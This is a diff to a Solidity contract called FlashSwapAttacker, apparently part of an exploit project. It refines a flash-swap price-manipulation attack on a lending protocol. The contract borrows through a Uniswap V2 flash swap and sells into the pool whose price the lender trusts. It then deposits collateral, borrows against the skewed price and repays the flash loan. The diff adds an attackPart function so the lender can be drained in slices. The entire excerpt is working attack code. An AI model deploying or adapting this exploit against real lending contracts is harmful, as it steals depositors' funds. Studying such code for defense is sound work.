@@ -32,29 +32,39 @@ contract FlashSwapAttacker {
         COLLATERAL = lender.COLLATERAL();
     }
 
-    /// @notice Attacks with `flashAmount` of capital, leaving `collateralAmount` with the lender.
+    /// @notice Attacks with `flashAmount` of capital, leaving `collateralAmount` with the lender, and takes all of it.
     function attack(uint256 flashAmount, uint256 collateralAmount) external {
-        if (msg.sender != OWNER) revert NotAllowed(msg.sender);
+        _attack(flashAmount, collateralAmount, LOAN.balanceOf(address(LENDER)));
+    }
 
-        bool loanIsFirst = FLASH_POOL.token0() == address(LOAN);
-        bytes memory data = abi.encode(flashAmount, collateralAmount);
-        FLASH_POOL.swap(loanIsFirst ? flashAmount : 0, loanIsFirst ? 0 : flashAmount, address(this), data);
-        LOAN.transfer(OWNER, LOAN.balanceOf(address(this)));
+    /// @notice Likewise, and takes `loanAmount` alone: one slice of several.
+    function attackPart(uint256 flashAmount, uint256 collateralAmount, uint256 loanAmount) external {
+        _attack(flashAmount, collateralAmount, loanAmount);
     }
 
     /// @notice Called by the flash pool once its tokens are here and before it checks the payment.
     function uniswapV2Call(address sender, uint256, uint256, bytes calldata data) external {
         if (msg.sender != address(FLASH_POOL) || sender != address(this)) revert NotAllowed(msg.sender);
 
-        (uint256 flashAmount, uint256 collateralAmount) = abi.decode(data, (uint256, uint256));
+        (uint256 flashAmount, uint256 collateralAmount, uint256 loanAmount) =
+            abi.decode(data, (uint256, uint256, uint256));
         _swap(LOAN, flashAmount);
 
         COLLATERAL.approve(address(LENDER), collateralAmount);
         LENDER.depositCollateral(collateralAmount);
-        LENDER.borrow(LOAN.balanceOf(address(LENDER)));
+        LENDER.borrow(loanAmount);
 
         _swap(COLLATERAL, COLLATERAL.balanceOf(address(this)));
         LOAN.transfer(address(FLASH_POOL), flashAmount * FEE_BASE / FEE_KEPT + 1);
+    }
+
+    function _attack(uint256 flashAmount, uint256 collateralAmount, uint256 loanAmount) private {
+        if (msg.sender != OWNER) revert NotAllowed(msg.sender);
+
+        bool loanIsFirst = FLASH_POOL.token0() == address(LOAN);
+        bytes memory data = abi.encode(flashAmount, collateralAmount, loanAmount);
+        FLASH_POOL.swap(loanIsFirst ? flashAmount : 0, loanIsFirst ? 0 : flashAmount, address(this), data);
+        LOAN.transfer(OWNER, LOAN.balanceOf(address(this)));
     }
 
     /// @dev Sells `amount` of `token` in the pool whose price the lender trusts.
